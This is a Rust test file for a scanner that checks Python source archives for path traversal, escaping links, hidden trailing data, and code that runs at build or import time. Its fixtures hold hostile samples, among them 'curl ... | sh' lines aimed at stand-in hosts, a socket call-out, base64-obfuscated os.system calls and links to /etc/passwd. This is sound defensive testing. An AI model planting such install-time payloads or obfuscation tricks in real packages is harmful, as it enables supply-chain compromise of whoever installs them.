//! Source archives of every format, right and wrong.

use std::io::Write as _;

use spip_core::{Cause, Deed, Odd, Trigger};

use crate::support::{
    assert_clean, gzipped, member, odd, scan_sdist, tar, tar_member, tar_of, zip,
};

const FILES: &[(&str, &[u8])] = &[
    (
        "demo-1.0/PKG-INFO",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n",
    ),
    (
        "demo-1.0/setup.py",
        b"from setuptools import setup\nsetup()\n",
    ),
    ("demo-1.0/demo/__init__.py", b"x = 1\n"),
];

/// What is odd in a tar archive of these members.
fn odd_in(members: &[Vec<u8>]) -> Vec<Odd> {
    odd(&scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(members))))
}

fn file(name: &str, data: &[u8]) -> Vec<u8> {
    tar_member(name.as_bytes(), b'0', b"", data)
}

#[test]
fn ordinary_archives_of_every_format_are_clean() {
    let plain = tar(FILES);
    let mut bzip2 = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    bzip2.write_all(&plain).unwrap();
    let options = lzma_rust2::XzOptions::default();
    let mut xz = lzma_rust2::XzWriter::new(Vec::new(), options).unwrap();
    xz.write_all(&plain).unwrap();
    let members: Vec<_> = FILES
        .iter()
        .map(|(name, data)| member(name, data))
        .collect();
    for (name, bytes) in [
        ("demo-1.0.tar", plain.clone()),
        ("demo-1.0.tar.gz", gzipped(&plain)),
        ("demo-1.0.tgz", gzipped(&plain)),
        ("demo-1.0.tar.bz2", bzip2.finish().unwrap()),
        ("demo-1.0.tar.xz", xz.finish().unwrap()),
        ("demo-1.0.zip", zip(&members)),
    ] {
        let contents = scan_sdist(name, &bytes);
        assert_clean(&contents);
        assert_eq!(contents.members, 3, "{name}");
    }
}

#[test]
fn what_honest_tools_write_is_clean() {
    let global = tar_member(
        b"pax_global_header",
        b'g',
        b"",
        b"30 comment=0123456789abcdef0123\n",
    );
    let long = format!("demo-1.0/{}/x.txt", "d".repeat(150));
    let header = tar_member(b"././@LongLink", b'L', b"", format!("{long}\0").as_bytes());
    let record = |text: &str| {
        let length = text.len() + 3;
        format!("{length} {text}")
    };
    let pax = tar_member(
        b"x",
        b'x',
        b"",
        record("path=demo-1.0/\u{fc}.txt\n").as_bytes(),
    );
    let members = [
        global,
        tar_member(b"./", b'5', b"", b""),
        tar_member(b"./demo-1.0/", b'5', b"", b""),
        tar_member(b"./demo-1.0/demo/", 0, b"", b""),
        file("./demo-1.0/demo/__init__.py", b"x = 1\n"),
        header,
        file("demo-1.0/cut", b"text"),
        pax,
        file("demo-1.0/u.txt", b"text"),
        tar_member(b"demo-1.0/link", b'2', b"demo/__init__.py", b""),
        tar_member(b"demo-1.0/hard", b'1', b"demo-1.0/demo/__init__.py", b""),
        file("demo-1.0/demo/__init__.py", b"x = 1\n"),
    ];
    assert_clean(&scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members))));
    // Several gzip members and padding of tapes.
    let whole = tar(FILES);
    let (first, second) = whole.split_at(700);
    let bytes = [gzipped(first), gzipped(second), vec![0; 512]].concat();
    assert_clean(&scan_sdist("demo-1.0.tar.gz", &bytes));
    let padded = [whole, vec![0; 10240]].concat();
    assert_clean(&scan_sdist("demo-1.0.tar.gz", &gzipped(&padded)));
}

#[test]
fn paths_that_leave_the_archive_are_told() {
    for name in [
        "../evil",
        "/etc/evil",
        "demo-1.0/../../evil",
        "demo-1.0\\evil",
        "demo-1.0/a\nb",
    ] {
        assert!(
            odd_in(&[file(name, b"x")]).contains(&Odd::UnsafePath),
            "{name}"
        );
    }
    let member = tar_member(b"demo-1.0/\xff\xfe", b'0', b"", b"x");
    assert_eq!(odd_in(&[member]), [Odd::UnsafePath]);
}

#[test]
fn devices_pipes_and_unknown_members_are_told() {
    for kind in [b'3', b'4', b'6'] {
        assert_eq!(
            odd_in(&[tar_member(b"demo-1.0/x", kind, b"", b"")]),
            [Odd::Device]
        );
    }
    assert_eq!(
        odd_in(&[tar_member(b"demo-1.0/x", b'Q', b"", b"")]),
        [Odd::Malformed]
    );
}

#[test]
fn links_that_leave_are_told() {
    for (kind, target) in [
        (b'2', &b"/etc/passwd"[..]),
        (b'2', b"../../etc/passwd"),
        (b'1', b"../etc/passwd"),
        (b'1', b"/etc/passwd"),
    ] {
        let members = [
            file("demo-1.0/a", b"x"),
            tar_member(b"demo-1.0/l", kind, target, b""),
        ];
        assert_eq!(odd_in(&members), [Odd::EscapingLink]);
    }
}

#[test]
fn a_link_that_makes_a_build_script_of_data_is_followed() {
    let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
    let members = [
        tar_member(b"demo-1.0/setup.py", b'2', b"data/notes.txt", b""),
        file(
            "demo-1.0/data/notes.txt",
            b"import os\nos.system('./run.sh')\n",
        ),
        file("demo-1.0/run.sh", script),
    ];
    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members)));
    assert_eq!(odd(&contents), [Odd::ShellCommand]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Build);
}

#[test]
fn members_of_one_name_are_told_if_they_differ() {
    let same = [
        file("demo-1.0/a.py", b"x = 1"),
        file("demo-1.0/a.py", b"x = 1"),
    ];
    assert_eq!(odd_in(&same), []);
    let differ = [
        file("demo-1.0/a.py", b"x = 1"),
        file("demo-1.0/a.py", b"x = 2"),
    ];
    assert_eq!(odd_in(&differ), [Odd::DuplicateName]);
    let kinds = [
        file("demo-1.0/a", b""),
        tar_member(b"demo-1.0/a", b'2', b"b", b""),
    ];
    assert_eq!(odd_in(&kinds), [Odd::DuplicateName]);
    let cases = [file("demo-1.0/a.py", b"x"), file("demo-1.0/A.py", b"x")];
    assert_eq!(odd_in(&cases), [Odd::ConflictingName]);
}

#[test]
fn data_behind_the_end_is_told() {
    let whole = tar(FILES);
    let hidden = [whole.clone(), tar(FILES)].concat();
    let behind = |bytes: &[u8]| odd(&scan_sdist("demo-1.0.tar.gz", bytes));
    assert_eq!(behind(&gzipped(&hidden)), [Odd::DataOutside]);
    assert_eq!(
        behind(&[gzipped(&whole), b"#!/bin/sh".to_vec()].concat()),
        [Odd::DataOutside]
    );
    assert_eq!(
        behind(&[gzipped(&whole), gzipped(b"more")].concat()),
        [Odd::DataOutside]
    );
}

#[test]
fn an_archive_of_two_formats_is_read_as_both() {
    let zipped = zip(&[member("demo-1.0/run.sh", b"curl http://192.0.2.1/x | sh\n")]);
    let both = [gzipped(&tar(FILES)), zipped].concat();
    let contents = scan_sdist("demo-1.0.tar.gz", &both);
    assert!(odd(&contents).contains(&Odd::Malformed));
    assert!(odd(&contents).contains(&Odd::ShellCommand));
    assert_eq!(contents.members, 4);
}

#[test]
fn names_that_two_headers_give_are_told() {
    let header = tar_member(b"././@LongLink", b'L', b"", b"demo-1.0/one\0");
    let pax = tar_member(b"x", b'x', b"", b"21 path=demo-1.0/two\n");
    assert_eq!(
        odd_in(&[header, pax, file("demo-1.0/x", b"")]),
        [Odd::HeaderMismatch]
    );
    let global = tar_member(b"g", b'g', b"", b"21 path=demo-1.0/two\n");
    assert_eq!(
        odd_in(&[global, file("demo-1.0/x", b"")]),
        [Odd::HeaderMismatch]
    );
}

#[test]
fn what_cannot_be_read_is_unread() {
    let unread = |members: &[Vec<u8>]| {
        let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(members)));
        contents.unread.first().map(|unread| unread.cause)
    };
    let malformed = Some(Cause::Malformed);
    assert_eq!(
        unread(&[tar_member(b"demo-1.0/x", b'S', b"", b"")]),
        malformed
    );
    let sizes = tar_member(b"x", b'x', b"", b"12 size=300\n");
    assert_eq!(unread(&[sizes, file("demo-1.0/x", b"abc")]), malformed);
    let mut broken = file("demo-1.0/x", b"abc");
    broken[0] = b'X';
    assert_eq!(unread(&[file("demo-1.0/a", b""), broken]), malformed);
    for bytes in [&b""[..], b"\x1f\x8b", b"some text that is no archive"] {
        let contents = scan_sdist("demo-1.0.tar.gz", bytes);
        assert_eq!(contents.unread.len(), 1, "{bytes:?}");
    }
}

#[test]
fn several_tops_and_other_names_are_told() {
    assert_eq!(
        odd_in(&[file("a/x", b""), file("b/y", b"")]),
        [Odd::SeveralTops]
    );
    let contents = scan_sdist("other-1.0.tar.gz", &gzipped(&tar(FILES)));
    assert_eq!(odd(&contents), [Odd::NameMismatch]);
    assert_eq!(contents.oddities[0].site.member, "demo-1.0/PKG-INFO");
}

#[test]
fn build_requirements_by_address_are_told() {
    let text = b"[build-system]\nrequires = ['x @ https://example.invalid/x.whl']\n";
    assert_eq!(
        odd_in(&[file("demo-1.0/pyproject.toml", text)]),
        [Odd::BuildRequirementUrl]
    );
}

#[test]
fn start_files_in_source_archives_are_told() {
    let members = [
        file("demo-1.0/demo.pth", b"import demo_boot\n"),
        file("demo-1.0/x", b""),
    ];
    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members)));
    assert_eq!(odd(&contents), [Odd::StartFile]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Start);
}

/// The acts of one kind in a source archive, with their triggers.
fn deeds(members: &[(&str, &str)], deed: Deed) -> Vec<Trigger> {
    let members: Vec<_> = members
        .iter()
        .map(|(path, text)| file(path, text.as_bytes()))
        .collect();
    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar_of(&members)));
    contents.acts_of(deed).map(|act| act.trigger).collect()
}

#[test]
fn what_the_build_leads_to_runs_with_it() {
    const PAYLOAD: &str = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    const HELPER: &str = "import os\ndef go():\n    os.system('id')\n";
    for members in [
        &[
            (
                "demo-1.0/setup.py",
                "import runpy\nrunpy.run_path('tools/x.py', run_name='__main__')\n",
            ),
            ("demo-1.0/tools/x.py", PAYLOAD),
        ][..],
        &[
            (
                "demo-1.0/setup.py",
                "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data/notes.txt')).read())\n",
            ),
            ("demo-1.0/data/notes.txt", "import os\nos.system('id')\n"),
        ],
        &[
            (
                "demo-1.0/setup.py",
                "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'scripts'))\nfrom helper import go\ngo()\n",
            ),
            ("demo-1.0/scripts/helper.py", HELPER),
        ],
        &[
            ("demo-1.0/setup.py", "from helper import *\ngo()\n"),
            ("demo-1.0/helper.py", HELPER),
        ],
        &[
            (
                "demo-1.0/setup.cfg",
                "[global]\ncommand_packages = commands\n",
            ),
            (
                "demo-1.0/commands/build_py.py",
                "import os\nclass build_py:\n    def run(self):\n        os.system('id')\n",
            ),
        ],
    ] {
        let found = deeds(members, Deed::Spawn);
        assert_eq!(found, [Trigger::Build], "{members:?}");
    }
    let started = [
        (
            "demo-1.0/setup.py",
            "import subprocess, sys\nsubprocess.run([sys.executable, 'tools/x.py'])\n",
        ),
        (
            "demo-1.0/tools/x.py",
            "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n",
        ),
    ];
    assert_eq!(deeds(&started, Deed::Connect), [Trigger::Build]);
    // Texts that nothing runs are texts.
    let text = [
        ("demo-1.0/README.md", "import os\nos.system('id')\n"),
        ("demo-1.0/setup.py", ""),
    ];
    assert_eq!(deeds(&text, Deed::Spawn), []);
}

#[test]
fn requirements_that_a_back_end_adds_are_told() {
    let members = [
        file("demo-1.0/pyproject.toml", b"[build-system]\nrequires = []\nbuild-backend = 'bk'\nbackend-path = ['.']\n"),
        file("demo-1.0/bk.py", b"from setuptools import build_meta as b\ndef get_requires_for_build_wheel(c=None):\n    return b.get_requires_for_build_wheel(c) + [f'x @ https://h.invalid/x.whl']\n"),
    ];
    assert_eq!(odd_in(&members), [Odd::BuildRequirementUrl]);
}

#[test]
fn what_several_modules_say_together_is_read_together() {
    for members in [
        &[
            (
                "demo-1.0/demo/__init__.py",
                "from . import words\nfrom base64 import b64decode\nexec(b64decode(words.HEAD + words.TAIL))\n",
            ),
            (
                "demo-1.0/demo/words.py",
                "HEAD = 'aW1wb3J0IG9zO29z'\nTAIL = 'LnN5c3RlbSgnaWQnKQ=='\n",
            ),
        ][..],
        &[
            (
                "demo-1.0/demo/__init__.py",
                "from .words import STYLE\nfrom .tools import unpack\neval(compile(unpack(STYLE), '', 'exec'))\n",
            ),
            (
                "demo-1.0/demo/words.py",
                "STYLE = 'KScnZGknJyhtZXRzeXMuc28='\n",
            ),
            (
                "demo-1.0/demo/tools.py",
                "import base64\ndef unpack(text):\n    return 'import os;os.system(1)' if base64.b64decode(text) else ''\n",
            ),
        ],
        &[
            (
                "demo-1.0/demo/__init__.py",
                "import importlib\nfrom . import words as w\ngetattr(importlib.import_module(f'{w.A}s'), w.B + 'em')('id')\n",
            ),
            ("demo-1.0/demo/words.py", "A, B = 'o', 'syst'\n"),
        ],
        &[
            (
                "demo-1.0/demo/__init__.py",
                "from .tools import start\nstart('id -u')\n",
            ),
            ("demo-1.0/demo/tools.py", "from os import system as start\n"),
        ],
        &[
            (
                "demo-1.0/demo/__init__.py",
                "from .tools import *\nstart('id -u')\n",
            ),
            ("demo-1.0/demo/tools.py", "import os\nstart = os.system\n"),
        ],
        &[
            (
                "demo-1.0/demo/__init__.py",
                "import os\nfrom .tools import load\nload(os.path.dirname(__file__) + '/notes.txt')\n",
            ),
            (
                "demo-1.0/demo/tools.py",
                "def load(path):\n    exec(open(path).read())\n",
            ),
            ("demo-1.0/demo/notes.txt", "import os\nos.system('id')\n"),
        ],
    ] {
        assert_eq!(
            deeds(members, Deed::Spawn),
            [Trigger::Import],
            "{members:?}"
        );
    }
}

#[test]
fn what_a_helper_of_the_build_starts_is_told_by_who_calls_it() {
    let members = [
        (
            "demo-1.0/setup.py",
            "from helper import *\nrun('curl https://h.invalid/p | sh')\n",
        ),
        ("demo-1.0/helper.py", "from os import system as run\n"),
    ];
    assert_eq!(deeds(&members, Deed::Spawn), [Trigger::Build]);
}
